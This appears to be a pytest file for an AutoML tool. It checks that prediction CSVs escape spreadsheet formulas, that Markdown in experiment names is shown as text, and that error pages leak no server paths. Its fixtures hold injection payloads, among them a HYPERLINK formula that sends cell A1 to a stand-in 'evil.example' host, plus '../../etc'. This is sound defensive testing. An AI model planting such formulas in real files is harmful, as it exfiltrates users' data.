"""What users give us stays data: prediction CSVs can't run spreadsheet formulas (CLI and dashboard download),
and names are shown as text, never as Markdown (a name with image syntax makes no browser fetch anything)."""

from __future__ import annotations

import io
import os
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest
from conftest import SAMPLES
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from test_dashboard_pages import open_page

from automl.deploy import spreadsheet_safe, to_safe_csv
from automl.experiment import Workspace
from dashboard.components import plain

IMAGE_NAME = "![p](http://127.0.0.1:9/pixel.png)"
HOSTILE = {"Name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "Ticket": "@SUM(1+1)", "Cabin": "+cmd",
           "Embarked": "\tS"}


def hostile_rows() -> pd.DataFrame:
    rows = pd.read_csv(SAMPLES / "titanic.csv").drop(columns=["Survived"]).head(5)
    for column, value in HOSTILE.items():
        rows.loc[rows.index[0], column] = value
    rows.loc[rows.index[1], "Fare"] = -7.25  # a negative number: a number, not a formula
    rows.loc[rows.index[1], "Name"] = "-3"  # text that is just a number stays as it is
    rows["=1+1"] = 1.0  # a header that would run
    return rows


def check_escaped(csv_text: str) -> None:
    header = csv_text.splitlines()[0].split(",")
    assert "'=1+1" in header and "=1+1" not in header
    back = pd.read_csv(io.StringIO(csv_text), keep_default_na=False)
    first = back.iloc[0]
    for column, value in HOSTILE.items():
        assert first[column] == "'" + value, column
    assert back.loc[1, "Fare"] == -7.25 and back.loc[1, "Name"] in ("-3", -3)
    assert back.loc[2, "Name"] == pd.read_csv(SAMPLES / "titanic.csv").loc[2, "Name"]  # ordinary text untouched
    for cell in back.select_dtypes(object).to_numpy().ravel():
        assert not (isinstance(cell, str) and cell[:1] in ("=", "+", "@", "\t", "\r")), cell


def test_only_text_that_would_run_gets_the_prefix():
    frame = pd.DataFrame({"text": ["=1+1", "@x", "-x", "+1", "-1.5", "ok", None, "\rq"],
                          "number": [-1.0, -2.5, np.nan, 3, 4, 5, 6, -7],
                          "mixed": [-1, "-1-1", 2.5, "=A1", "a", "b", "c", "d"],
                          "category": pd.Categorical(["=A1", "b"] * 4)})
    out = spreadsheet_safe(frame)
    assert out["text"].tolist()[:6] == ["'=1+1", "'@x", "'-x", "+1", "-1.5", "ok"]
    assert out["text"].iloc[7] == "'\rq" and pd.isna(out["text"].iloc[6])
    assert out["number"].equals(frame["number"])  # numeric columns are never touched
    assert out["mixed"].tolist()[:4] == [-1, "'-1-1", 2.5, "'=A1"]
    assert out["category"].tolist()[:2] == ["'=A1", "b"]
    assert list(spreadsheet_safe(pd.DataFrame(columns=["@a", "b", "-c"])).columns) == ["'@a", "b", "'-c"]
    assert frame["text"].iloc[0] == "=1+1"  # the caller's frame is left alone
    assert to_safe_csv(pd.DataFrame({"x": [-1.5, 2.0]})) == "x\n-1.5\n2.0\n"


def test_cli_predict_csv_is_escaped(trained_titanic, tmp_path):
    rows = tmp_path / "rows.csv"
    hostile_rows().to_csv(rows, index=False)
    out = tmp_path / "out.csv"
    proc = subprocess.run([sys.executable, "-m", "automl", "predict", trained_titanic.id, str(rows), "-o", str(out),
                           "--no-log", "--workspace", str(trained_titanic.path.parent)],
                          capture_output=True, text=True, timeout=300, env={**os.environ})
    assert proc.returncode == 0, proc.stderr
    check_escaped(out.read_text())


def test_dashboard_prediction_download_is_escaped(trained_titanic, monkeypatch):
    monkeypatch.setenv("AUTOML_WORKSPACE", str(trained_titanic.path.parent))
    served: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def recording(self, path_or_data, mimetype, kind, filename=None):  # records, then stores as usual
        served[filename or ""] = path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    at = open_page("predict", experiment=trained_titanic.id)
    at.file_uploader(key=f"pred_upload_{trained_titanic.id}").upload(
        "rows.csv", hostile_rows().to_csv(index=False).encode(), "text/csv").run()
    assert not at.exception
    csv = served["rows-predictions.csv"]
    check_escaped(csv.decode() if isinstance(csv, bytes) else csv)


@pytest.fixture()
def image_named(trained_titanic, tmp_path, monkeypatch):
    """An experiment whose name (and target) is Markdown image syntax."""
    monkeypatch.setenv("AUTOML_WORKSPACE", str(tmp_path))
    exp = Workspace(tmp_path).create(name=IMAGE_NAME)
    stored = trained_titanic.record.to_dict()
    exp.update(status="running", pid=os.getpid(), host=os.uname().nodename,
               **{k: stored[k] for k in ("task", "metric", "schema", "classes")}, target=IMAGE_NAME)
    return exp


def markdown_bodies(at) -> list[str]:
    kinds = ("markdown", "caption", "subheader", "header", "title", "info", "warning", "error", "success")
    return [str(e.value) for kind in kinds for e in at.get(kind)]


@pytest.mark.parametrize("page", ["results", "train", "experiments"])
def test_a_markdown_name_is_shown_escaped(image_named, page):
    at = open_page(page, experiment=image_named.id)
    assert not at.exception
    bodies = markdown_bodies(at)
    assert not any(IMAGE_NAME in body for body in bodies), bodies  # never raw Markdown
    if page != "experiments":  # the header shows the name, escaped (the list shows it in a plain table cell)
        assert any(plain(IMAGE_NAME) in body for body in bodies), bodies
    else:
        assert IMAGE_NAME in at.dataframe[0].value["name"].tolist()


def test_an_unknown_link_names_no_server_path(tmp_path, monkeypatch):
    monkeypatch.setenv("AUTOML_WORKSPACE", str(tmp_path))
    for exp_id in ("doesnotexist123", "a" * 300, "../../etc"):
        at = open_page("results", experiment=exp_id)
        assert not at.exception
        said = "\n".join(markdown_bodies(at))
        assert "There is no experiment" in said and str(tmp_path) not in said
    at = open_page("experiments")
    assert "No experiments in this workspace" in "\n".join(markdown_bodies(at))
    assert str(tmp_path) not in "\n".join(markdown_bodies(at))


@pytest.mark.parametrize("page", ["results", "train"])
def test_a_failed_runs_message_is_shown_escaped(tmp_path, monkeypatch, page):
    """A failure message quotes what the user gave (a column name, a file name): it is text, never Markdown."""
    monkeypatch.setenv("AUTOML_WORKSPACE", str(tmp_path))
    exp = Workspace(tmp_path).create(name="failed run")
    exp.update(status="failed", error=f"The target column '{IMAGE_NAME}' is empty on every row.")
    at = open_page(page, experiment=exp.id)
    assert not at.exception
    errors = [str(e.value) for e in at.error]
    assert errors and not any(IMAGE_NAME in body for body in errors), errors
    assert any(plain(IMAGE_NAME) in body for body in errors), errors


def test_the_tables_own_export_is_off_and_pages_offer_an_escaped_csv(trained_titanic, monkeypatch):
    """A table's own CSV download writes '=HYPERLINK(...)' as it is; it is switched off, and the escaped download
    stands in for it (here the leaderboard's)."""
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).parents[2] / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
    monkeypatch.setenv("AUTOML_WORKSPACE", str(trained_titanic.path.parent))
    at = open_page("results", experiment=trained_titanic.id)
    assert not at.exception
    labels = [b.proto.label for b in at.get("download_button")]
    assert "Leaderboard (CSV)" in labels
